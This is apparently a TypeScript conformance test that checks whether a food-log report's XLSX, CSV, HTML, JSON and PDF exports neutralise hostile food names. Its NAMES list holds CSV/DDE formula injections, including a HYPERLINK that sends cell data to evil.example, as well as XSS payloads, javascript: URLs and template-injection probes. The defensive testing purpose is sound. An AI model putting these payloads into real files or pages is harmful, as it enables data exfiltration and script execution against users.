import { elementsOf, readHtml, readHtmlTables } from '../conformance/read-html';
import { readCsv } from '../conformance/read-csv';
import { readJson } from '../conformance/read-json';
import { elements, readPdf } from '../conformance/read-pdf';
import type { FoundTables } from '../conformance/read-tables';
import { readXlsx } from '../conformance/read-xlsx';
import { readZip } from '../conformance/read-zip';
import { type House, madeReport, openHouse } from './house';
import { pointersIn } from './problem';

let house: House;
const files = new Map<string, Buffer>();

/** What people or attackers write where a food's name is expected. */
const NAMES = [
  `=cmd|'/C calc'!A1`,
  '=1+1',
  '+1-1',
  '-2+3',
  '@SUM(A1:A9)',
  '=HYPERLINK("http://evil.example/?x="&A1,"here")',
  '＝1+1',
  '<script>alert(1)</script>',
  `"><img src=x onerror=alert(1)>`,
  '</table></body>',
  'javascript:alert(1)',
  '&amp; &#x3c;b&#x3e;',
  ']]><b>',
  '{{7*7}} ${7*7} #{7*7} <%= 7*7 %>',
  'a,"b";c',
  'two\nlines',
  '\u202egnp.exe',
  'תפוח ירוק',
  'عصير برتقال',
  '🍏👩‍🍳 salad',
  '𝔘𝔫𝔦𝔠𝔬𝔡𝔢',
  'bell\u0007and\u001bescape',
  'non\uffffcharacter',
  'x'.repeat(100),
  '1234567890123456789',
  '00012',
  'TRUE',
  '2026-01-31',
  '__proto__',
  'constructor',
];

beforeAll(async () => {
  house = await openHouse();
  const person = await house.newcomer();
  for (const foodName of NAMES) {
    const written = await person.post('/api/food-logs', {
      foodName,
      category: 'other',
      loggedOn: '2026-01-15',
    });
    expect([foodName, written.status, written.body]).toMatchObject([foodName, 201, { foodName }]);
  }
  const { artefacts } = await madeReport(person, {
    template: 'nutrition.food-log',
    formats: ['xlsx', 'pdf', 'html', 'csv', 'json'],
    parameters: { from: '2026-01-01', to: '2026-01-31', top: 100 },
  });
  for (const { format, downloadUrl } of artefacts)
    files.set(format, (await house.stranger.get(downloadUrl)).bytes);
}, 180_000);
afterAll(() => house.close());

const fileOf = (format: string): Buffer => files.get(format) ?? Buffer.alloc(0);
const cellsOf = ({ tables }: FoundTables): unknown[] =>
  Object.values(tables).flatMap(({ rows }) => rows.flat());

// Neither files nor screens have a place for these.
const visible = (text: string): string =>
  text.replace(/[\u0000-\u0008\u000b\u000c\u000e-\u001f\ufffd-\uffff]/g, '');

describe('a hostile name', () => {
  it('that can not be stored is refused', async () => {
    const person = await house.newcomer();
    for (const foodName of ['a\u0000b', 'a\ud800', 'x'.repeat(101), '', ' \t '])
      expect(
        pointersIn(
          await person.post('/api/food-logs', { foodName, category: 'other', loggedOn: '2026-01-15' }),
        ),
      ).toEqual(['/foodName']);
  });

  it('is told to the letter in JSON', () => {
    const cells = cellsOf(readJson(fileOf('json'))).map((cell) => visible(String(cell)));
    for (const name of NAMES) expect(cells).toContain(visible(name));
  });

  it('is a text in a workbook, never a formula or a link', async () => {
    const cells = cellsOf(await readXlsx(fileOf('xlsx'))).map((cell) => visible(String(cell)));
    for (const name of NAMES) expect(cells).toContain(visible(name));
    for (const [path, part] of await readZip(fileOf('xlsx')))
      if (path.startsWith('xl/worksheets/'))
        expect([path, /<f[ >]|<hyperlink /.exec(part.toString('utf8'))]).toEqual([path, null]);
  });

  it('can not begin a formula in CSV', async () => {
    const cells = cellsOf(await readCsv(fileOf('csv'))).map((cell) => visible(String(cell)));
    for (const name of NAMES) {
      const escaped = /^[=+\-@＝＋－＠\t\r\n]/.test(name) ? `'${name}` : name;
      expect(cells).toContain(visible(escaped));
    }
    expect(cells.filter((cell) => /^[=+@＝]/.test(cell))).toEqual([]);
  });

  it('is text on a page', () => {
    const html = fileOf('html').toString('utf8');
    const cells = [...readHtmlTables(html).values()].flatMap(({ rows }) => rows.flat()).map(visible);
    for (const name of NAMES) expect(cells).toContain(visible(name));
    for (const element of elementsOf(readHtml(html))) {
      expect(['img', 'iframe', 'object', 'embed', 'form']).not.toContain(element.name);
      expect([...element.attributes.keys()].filter((name) => name.startsWith('on'))).toEqual([]);
      expect(element.attributes.get('href') ?? '').not.toMatch(/^\s*javascript:/i);
    }
  });

  it('is text in a PDF, without anything that acts', () => {
    const text = elements(readPdf(fileOf('pdf')).root, 'TD', 'TH')
      .map((cell) => cell.text.replace(/\s+/g, ''))
      .join('\n');
    for (const name of NAMES.filter((each) => /^[ -~]*$/.test(each)))
      expect(text).toContain(name.replace(/\s+/g, ''));
    expect(fileOf('pdf').toString('latin1')).not.toMatch(/\/JavaScript|\/JS[ (]|\/Launch|\/OpenAction|\/URI/);
  });
});
